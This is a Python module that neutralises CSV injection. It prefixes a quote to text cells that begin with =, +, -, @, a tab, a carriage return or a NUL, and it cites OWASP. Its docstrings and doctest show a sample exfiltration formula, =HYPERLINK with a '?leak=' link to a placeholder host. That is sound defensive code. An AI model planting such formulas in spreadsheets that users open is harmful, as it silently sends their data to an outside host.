"""CSV text that is safe to open in a spreadsheet: every CSV the workbench writes goes through :func:`csv_text`.

A spreadsheet (Excel, LibreOffice Calc, Google Sheets) reads a cell that starts with ``=``, ``+``, ``-`` or ``@``
as a formula, and a tab or carriage return in front of one does not stop it. An id or a question text is written
by whoever wrote the corpus or the question set, so ``=HYPERLINK("http://host/?leak="&A1)`` as a document id
would run in the reader's spreadsheet when they open the lists' or the evaluation's CSV ("CSV injection", OWASP:
https://owasp.org/www-community/attacks/CSV_Injection).

The rule, OWASP's: a **text** cell whose first character is ``=``, ``+``, ``-``, ``@``, a tab (U+0009) or a
carriage return (U+000D) gets a single quote in front (``'=HYPERLINK(…)``), which a spreadsheet reads as "this
cell is text" and hides. Two more starts are treated alike, as a defence beside OWASP's list: a cell that reaches
one of those characters after leading whitespace (``" =1+1"``, ``"\\n@SUM(A1)"``: some programs trim it before
they decide), and a NUL (OWASP ASVS 1.2.10). Numbers, booleans and ``None`` are never changed: ``-0.25`` written
as a number stays the number ``-0.25``; only strings are neutralised. The field separator and quotes inside a cell
are the :mod:`csv` module's (RFC 4180 quoting), so a cell cannot open a new cell in the middle of its text.
"""

from __future__ import annotations

import csv
import io
from typing import Any, Iterable, Sequence

#: A text cell starting with one of these is read as a formula by a spreadsheet (OWASP's list, and NUL).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\x00")


def safe_cell(value: Any) -> Any:
    """``value`` as a CSV cell a spreadsheet will not evaluate: a string that starts with one of
    :data:`FORMULA_STARTS` (after any leading whitespace) with ``'`` in front; ``None`` as ``""``; anything else
    (numbers, booleans, other strings) unchanged.

    >>> safe_cell('=HYPERLINK("http://x/?leak="&A1)')
    '\\'=HYPERLINK("http://x/?leak="&A1)'
    >>> safe_cell(-0.25), safe_cell("-0.25"), safe_cell("d1")
    (-0.25, "'-0.25", 'd1')
    """
    if value is None:
        return ""
    if isinstance(value, str) and value and (value[0] in FORMULA_STARTS or value.lstrip()[:1] in FORMULA_STARTS[:4]):
        return "'" + value
    return value


def csv_text(header: Sequence[Any], rows: Iterable[Sequence[Any]], lineterminator: str = "\n") -> str:
    """CSV text of a header and rows, every cell (the header's too) through :func:`safe_cell`.

    Args:
        header: the column names, written as the first line.
        rows: one sequence of cells per line, in the header's order.
        lineterminator: the line ending (``"\\n"``; ``"\\r\\n"`` is the :mod:`csv` module's default).
    """
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator=lineterminator)
    writer.writerow([safe_cell(c) for c in header])
    for row in rows:
        writer.writerow([safe_cell(c) for c in row])
    return buffer.getvalue()
